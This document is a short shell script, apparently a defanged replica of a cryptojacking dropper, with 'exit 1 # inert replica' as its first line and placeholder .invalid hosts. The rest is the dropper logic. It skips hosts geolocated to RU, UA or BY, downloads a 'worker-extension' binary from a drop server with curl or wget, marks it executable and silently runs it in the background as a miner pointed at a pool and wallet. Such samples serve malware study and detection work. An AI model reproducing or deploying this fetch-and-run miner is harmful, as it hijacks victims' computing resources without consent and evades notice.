exit 1 # inert replica
IP=$(curl -k -q https://country.replica.invalid/ 2>/dev/null | grep 'RU\|UA\|BY')
if [ -z "$IP" ]; then
  var=$(pgrep worker-extension)
  if [ -z "$var" ]; then
    curl http://drop.replica.invalid/download/worker-extension -o worker-extension
    if [ ! -f worker-extension ]; then
      wget http://drop.replica.invalid/download/worker-extension -O worker-extension
    fi
    chmod +x worker-extension
    ./worker-extension -k --tls -o pool.replica.invalid:443 -u wallet --donate-level 1 --background &>/dev/null &
  fi
fi
